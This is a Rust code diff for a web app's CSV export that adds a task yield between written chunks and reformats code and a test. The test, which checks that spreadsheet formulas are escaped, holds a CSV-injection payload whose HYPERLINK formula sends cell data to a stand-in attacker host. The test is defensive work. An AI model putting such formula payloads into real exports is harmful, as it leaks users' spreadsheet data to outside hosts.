@@ -175,6 +175,8 @@ impl Csv {
             write_rows(&rows, &mut buffer).map_err(|e| internal(&e))?;
             out.write_all(&buffer).await.map_err(|e| internal(&e))?;
             buffer.clear();
+            // Rows may arrive faster than they are written: let pages run between chunks.
+            rocket::tokio::task::yield_now().await;
         }
         // The query is done: its connection goes back to the pool now.
         drop(chunks);
@@ -215,8 +217,12 @@ struct Download(Arc<Mutex<Sending>>);
 
 impl Download {
     fn watch(file: rocket::tokio::fs::File, slot: ExportSlot, timeout: Duration) -> Download {
-        let shared =
-            Arc::new(Mutex::new(Sending { file: Some(file), slot: Some(slot), last_read: Instant::now(), finished: false }));
+        let shared = Arc::new(Mutex::new(Sending {
+            file: Some(file),
+            slot: Some(slot),
+            last_read: Instant::now(),
+            finished: false,
+        }));
         let watched = Arc::downgrade(&shared);
         let tick = (timeout / 4).max(Duration::from_millis(50));
         rocket::tokio::spawn(async move {
@@ -270,7 +276,10 @@ mod tests {
     #[test]
     fn formulas_are_neutralised_and_numbers_kept() {
         for (cell, shown) in [
-            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            ),
             ("+1+2", "'+1+2"),
             ("-2+3", "'-2+3"),
             ("@SUM(A1)", "'@SUM(A1)"),
